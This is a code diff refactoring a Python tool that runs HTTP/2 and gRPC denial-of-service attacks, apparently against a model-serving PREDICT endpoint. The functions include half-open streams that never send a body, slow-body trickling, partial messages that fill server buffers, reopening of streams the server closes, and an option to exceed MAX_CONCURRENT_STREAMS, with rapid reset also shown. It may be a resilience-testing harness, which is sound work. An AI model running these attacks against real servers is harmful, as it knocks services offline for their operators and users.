@@ -25,7 +25,7 @@ import socket
 import ssl
 import threading
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 
 from h2.settings import SettingCodes
 
@@ -100,11 +100,16 @@ class Running:
         self.stop()
 
     def open_count(self) -> int:
+        """Streams opened and not (yet) ended by the server."""
         return sum(len(c.open_streams()) for c in self.conns if not c.closed)
+
+    def max_accepted(self) -> int:
+        """The most DATA bytes any one stream got through the server's windows."""
+        return max((s.sent for c in self.conns for s in c.streams.values()), default=0)
 
 
 def _fill(run: Running, target: Target, streams: int, per_connection: int,
-          open_one: Callable[[Conn], int | None], **conn_kwargs) -> None:
+          open_one: Callable[[Conn], int | None]) -> None:
     """Open connections and streams until `streams` are open (server-closed ones are
     not replaced here)."""
     opened = 0
@@ -112,7 +117,7 @@ def _fill(run: Running, target: Target, streams: int, per_connection: int,
         conn = next((c for c in run.conns if not c.closed and c.goaway is None
                      and not c.full and len(c.streams) < per_connection), None)
         if conn is None:
-            conn = run.connect(target, **conn_kwargs)
+            conn = run.connect(target)
             if conn is None:
                 run.wait(0.1)
                 continue
@@ -124,6 +129,35 @@ def _fill(run: Running, target: Target, streams: int, per_connection: int,
     run.stats.note(f"opened {opened} streams")
 
 
+def _hold(run: Running, target: Target, streams: int, per_connection: int,
+          open_one: Callable[[Conn], int | None], reopen_per_s: float,
+          tick: Callable[[Running], None] | None = None) -> None:
+    """Keep the streams open until the attack ends: service the connections, call
+    `tick` (to send more), and replace server-ended streams at `reopen_per_s`."""
+    budget, last = 0.0, time.monotonic()
+    while run.running:
+        run.wait(0.05)
+        if tick:
+            tick(run)
+        if reopen_per_s <= 0:
+            continue
+        now = time.monotonic()
+        budget = min(budget + (now - last) * reopen_per_s, reopen_per_s)
+        last = now
+        run.conns = [c for c in run.conns if not c.closed]  # lost ones stay closed
+        for conn in run.conns:
+            for sid in [s.id for s in conn.streams.values() if s.ended is not None]:
+                del conn.streams[sid]
+        while budget >= 1 and run.open_count() < streams:
+            conn = next((c for c in run.conns if c.goaway is None
+                         and len(c.streams) < per_connection), None)
+            conn = conn or run.connect(target)
+            if conn is None or open_one(conn) is None:
+                break
+            budget -= 1
+            run.stats.add("streams_reopened")
+
+
 def half_open(target: Target, streams: int, *, per_connection: int = 100,
               path: str = PREDICT, authorization: str | None = None,
               reopen_per_s: float = 0.0, ignore_limit: bool = False,
@@ -131,7 +165,8 @@ def half_open(target: Target, streams: int, *, per_connection: int = 100,
     """Open `streams` gRPC requests (HEADERS only) and never send a body. With
     `reopen_per_s`, streams the server ends are replaced (at most that many a second),
     as an attacker holding a valid credential would do. With `first_message`, each
-    stream sends that one gRPC message and then stays idle (an open bidi stream)."""
+    stream sends that one gRPC message and then stays idle (an open bidi stream).
+    `ignore_limit` opens streams past the server's MAX_CONCURRENT_STREAMS."""
 
     def open_one(conn: Conn) -> int | None:
         sid = conn.open_stream(path, authorization=authorization, ignore_limit=ignore_limit)
@@ -146,32 +181,6 @@ def half_open(target: Target, streams: int, *, per_connection: int = 100,
     return Running("half_open", body, duration).start()
 
 
-def _hold(run: Running, target: Target, streams: int, per_connection: int,
-          open_one: Callable[[Conn], int | None], reopen_per_s: float,
-          tick: Callable[[], None] | None = None) -> None:
-    budget, last = 0.0, time.monotonic()
-    while run.running:
-        run.wait(0.05)
-        if tick:
-            tick()
-        if reopen_per_s <= 0:
-            continue
-        now = time.monotonic()
-        budget = min(budget + (now - last) * reopen_per_s, reopen_per_s)
-        last = now
-        for conn in list(run.conns):
-            for sid in [s.id for s in conn.streams.values() if s.ended is not None]:
-                conn.streams.pop(sid, None)
-        while budget >= 1 and run.open_count() < streams:
-            conn = next((c for c in run.conns if not c.closed and c.goaway is None
-                         and len(c.open_streams()) < per_connection), None)
-            conn = conn or run.connect(target)
-            if conn is None or open_one(conn) is None:
-                break
-            budget -= 1
-            run.stats.add("streams_reopened")
-
-
 def slow_body(target: Target, streams: int, *, message_size: int = 1024,
               chunk: int = 1, interval: float = 1.0, per_connection: int = 100,
               path: str = PREDICT, authorization: str | None = None,
@@ -179,34 +188,23 @@ def slow_body(target: Target, streams: int, *, message_size: int = 1024,
     """Open `streams` requests and send each one's single message (`message_size` bytes
     declared in its prefix) `chunk` bytes every `interval` seconds, then END_STREAM."""
     payload = grpc_frame(b"\x00" * message_size)
-    progress: dict[tuple[int, int], int] = {}
+    last_round = [0.0]
 
     def open_one(conn: Conn) -> int | None:
-        sid = conn.open_stream(path, authorization=authorization)
-        if sid is not None:
-            progress[(id(conn), sid)] = 0
-        return sid
+        return conn.open_stream(path, authorization=authorization)
 
-    def tick() -> None:
-        now = time.monotonic()
-        if now - state["last"] < interval:
+    def tick(run: Running) -> None:
+        if time.monotonic() - last_round[0] < interval:
             return
-        state["last"] = now
-        for conn in run_ref[0].conns:
+        last_round[0] = time.monotonic()
+        for conn in run.conns:
             for stream in conn.open_streams():
-                key = (id(conn), stream.id)
-                done = progress.get(key)
-                if done is None or done >= len(payload):
-                    continue
-                piece = payload[done:done + chunk]
-                end = done + len(piece) >= len(payload)
-                progress[key] = done + conn.send(stream.id, piece, end_stream=end)
-
-    state = {"last": 0.0}
-    run_ref: list[Running] = []
+                piece = payload[stream.sent:stream.sent + chunk]
+                if piece:
+                    conn.send(stream.id, piece,
+                              end_stream=stream.sent + len(piece) == len(payload))
 
     def body(run: Running) -> None:
-        run_ref.append(run)
         _fill(run, target, streams, per_connection, open_one)
         _hold(run, target, streams, per_connection, open_one, reopen_per_s, tick)
 
@@ -220,34 +218,26 @@ def partial_message(target: Target, streams: int, *, declared: int = 4 << 20,
     """Open `streams` requests, each declaring one `declared`-byte message and sending
     its first `send` bytes (default: all but the last byte) as fast as the server's flow
     control windows allow, then stopping. `stats['body_bytes_sent']` is what the server
-    let in (its buffering), per-stream in `max_accepted()`."""
+    let in (its buffering); `max_accepted()` the most any one stream got in."""
     body_bytes = grpc_prefix(declared) + b"\x00" * min(declared - 1, send or declared - 1)
-    run_ref: list[Running] = []
-    progress: dict[tuple[int, int], int] = {}
 
     def open_one(conn: Conn) -> int | None:
         sid = conn.open_stream(path, authorization=authorization)
         if sid is not None:
-            progress[(id(conn), sid)] = conn.send(sid, body_bytes)
+            conn.send(sid, body_bytes)
         return sid
 
-    def tick() -> None:  # send more as WINDOW_UPDATEs arrive
-        for conn in run_ref[0].conns:
+    def tick(run: Running) -> None:  # send more as WINDOW_UPDATEs arrive
+        for conn in run.conns:
             for stream in conn.open_streams():
-                key = (id(conn), stream.id)
-                done = progress.get(key, len(body_bytes))
-                if done < len(body_bytes):
-                    progress[key] = done + conn.send(stream.id, body_bytes[done:])
+                if stream.sent < len(body_bytes):
+                    conn.send(stream.id, body_bytes[stream.sent:])
 
     def body(run: Running) -> None:
-        run_ref.append(run)
         _fill(run, target, streams, per_connection, open_one)
         _hold(run, target, streams, per_connection, open_one, 0.0, tick)
 
-    run = Running("partial_message", body, duration)
-    run.max_accepted = lambda: max((s.sent for c in run.conns for s in c.streams.values()),
-                                   default=0)
-    return run.start()
+    return Running("partial_message", body, duration).start()
 
 
 def rapid_reset(target: Target, *, connections: int = 3, rate: float = 1000.0,
@@ -411,7 +401,3 @@ def probe_window(target: Target, *, declared: int = 4 << 20, path: str = PREDICT
     finally:
         conn.close()
 
-
-def streams_of(run: Running) -> Iterator[Stream]:
-    for conn in run.conns:
-        yield from conn.streams.values()
